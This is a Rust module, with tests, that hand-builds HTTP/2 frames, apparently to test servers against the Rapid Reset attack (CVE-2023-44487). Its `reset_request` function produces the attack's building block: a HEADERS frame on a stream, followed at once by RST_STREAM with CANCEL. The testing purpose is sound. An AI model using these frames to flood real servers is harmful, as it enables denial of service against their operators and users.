//! Frames of HTTP/2, written by hand: no client library sends what an attacker sends.

/// What a client sends first: the preface, and settings that change nothing.
pub fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(Kind::Settings, 0, 0, &[]));
    bytes
}

/// The kinds of frames that are sent here.
#[derive(Clone, Copy, Debug)]
pub enum Kind {
    /// The headers of a request, or their first part.
    Headers = 1,
    /// The end of a stream, at once.
    ResetStream = 3,
    /// Settings of the connection.
    Settings = 4,
    /// A further part of headers.
    Continuation = 9,
}

/// Of headers: the request has no body.
pub const END_STREAM: u8 = 1;
/// Of headers: they are complete.
pub const END_HEADERS: u8 = 4;

/// A frame.
pub fn frame(kind: Kind, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind as u8, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The headers of a POST, in HPACK without a table: `:method`, `:scheme` and `:path` by the static one.
pub fn post(path: &str) -> Vec<u8> {
    // 0x83: `:method: POST`, 0x87: `:scheme: https`, 0x04: `:path`, 0x01: `:authority`.
    let mut block = vec![0x83, 0x87];
    block.extend(literal(0x04, path));
    block.extend(literal(0x01, "webhook"));
    block
}

/// A header with a name and a value of its own, that no table keeps.
pub fn header(name: &str, value: &str) -> Vec<u8> {
    let mut block = vec![0x00];
    block.extend(string(name));
    block.extend(string(value));
    block
}

fn literal(index: u8, value: &str) -> Vec<u8> {
    let mut block = vec![index];
    block.extend(string(value));
    block
}

/// A string that is not Huffman-coded, with its length as an integer with a prefix of seven bits.
fn string(text: &str) -> Vec<u8> {
    let mut bytes = vec![];
    let mut length = text.len();
    if length < 127 {
        bytes.push(length as u8);
    } else {
        bytes.push(127);
        length -= 127;
        while length >= 128 {
            bytes.push((length % 128) as u8 | 0x80);
            length /= 128;
        }
        bytes.push(length as u8);
    }
    bytes.extend(text.bytes());
    bytes
}

/// A request that is ended before it can be answered (CVE-2023-44487).
pub fn reset_request(stream: u32, path: &str) -> Vec<u8> {
    let mut bytes = frame(Kind::Headers, END_HEADERS, stream, &post(path));
    // 8: CANCEL.
    bytes.extend(frame(Kind::ResetStream, 0, stream, &8_u32.to_be_bytes()));
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_kind_flags_and_stream() {
        let bytes = frame(Kind::Headers, END_HEADERS | END_STREAM, 3, &[0xAB; 300]);
        assert_eq!(bytes[..9], [0, 1, 44, 1, 5, 0, 0, 0, 3]);
        assert_eq!(bytes.len(), 309);
    }

    #[test]
    fn long_strings_have_their_length_in_several_bytes() {
        assert_eq!(string("ab"), [2, b'a', b'b']);
        assert_eq!(string(&"x".repeat(127))[..2], [127, 0]);
        // RFC 7541, C.1.2: 1337 with a prefix of five bits is 31, 154, 10; with seven, 127 and 1210.
        assert_eq!(string(&"x".repeat(1337))[..3], [127, 0xBA, 0x09]);
    }

    #[test]
    fn a_reset_request_is_headers_without_an_end_and_a_reset_of_the_same_stream() {
        let bytes = reset_request(7, "/mutate");
        let headers = usize::from(bytes[2]);
        assert_eq!((bytes[3], bytes[4], bytes[8]), (1, END_HEADERS, 7));
        assert_eq!(bytes[9 + headers..], [0, 0, 4, 3, 0, 0, 0, 0, 7, 0, 0, 0, 8]);
    }
}
